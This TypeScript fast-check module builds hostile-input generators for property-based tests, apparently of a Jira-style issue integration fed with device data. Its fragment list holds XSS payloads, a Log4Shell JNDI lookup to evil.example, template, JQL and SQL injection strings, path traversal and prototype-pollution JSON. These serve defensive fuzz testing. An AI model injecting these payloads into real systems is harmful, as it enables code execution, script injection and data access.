import fc from 'fast-check';

/** What means something to a decoder, a query language, a document, a page or a person's eye on the way. */
export const fragments = [
  '"',
  "'",
  '\\',
  '\u0000',
  '\u001b[31m',
  '\r\n',
  '\u2028',
  '\ud800',
  '\udfff',
  '\u202e',
  '\u2066',
  '\u061c',
  '\u00ad',
  '\u{e0041}',
  '\ufe0f',
  '\u3164',
  '\ufeff',
  '\u200b',
  '\uff02',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '{"type":"text"}',
  '"},{"type":"mediaSingle"}',
  '[click](javascript:alert(1))',
  'javascript:alert(1)',
  'data:text/html,x',
  'https://evil.example',
  '//evil.example',
  '@everyone',
  '" OR "1" = "1',
  '") OR issuetype is not EMPTY OR ("',
  ' ORDER BY created',
  '"]) or ("1" == "1',
  '../../',
  '%2e%2e%2f',
  '?x=1#y',
  '__proto__',
  'constructor',
  'toString',
  'Asset intelligence from Axonius',
];

const names = ['web01', 'WEB01.corp.example.com', 'CORP\\WEB01$', '10.20.4.17', 'fd00::19', '3C:52:82:A1:23:45'];

/** Any text that an attacker may put into a field of an issue, a device, or a record. */
export const hostileText = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...names) },
  {
    weight: 4,
    arbitrary: fc
      .array(fc.constantFrom(...fragments, ...names, ',', ' '), { minLength: 1, maxLength: 6 })
      .map(all => all.join('')),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(40_000), `${'a.'.repeat(10_000)}b`, '\ud800'.repeat(5_000)) },
);

/** A value of the wrong kind where a text is expected. */
export const hostileValue = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.jsonValue() },
  { weight: 1, arbitrary: fc.array(hostileText, { maxLength: 4 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      null,
      { length: 1e9 },
      nested(2_000),
      Array.from({ length: 20_000 }, () => 'web01'),
      JSON.parse('{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}'),
    ),
  },
);

/** A list in a list in a list. */
export function nested(depth: number): unknown {
  let value: unknown = 'deep';
  for (let level = 0; level < depth; level += 1) value = [value];
  return value;
}

/** Characters that no text of ours may hold: controls, direction marks, invisible ones, halves of pairs. */
export const unsafe = /[\p{Cc}\p{Cf}\p{Surrogate}\p{Default_Ignorable_Code_Point}]/u;

/** Whether any object got a key that it was not given. */
export function isPolluted(): boolean {
  return 'polluted' in {} || 'polluted' in [];
}
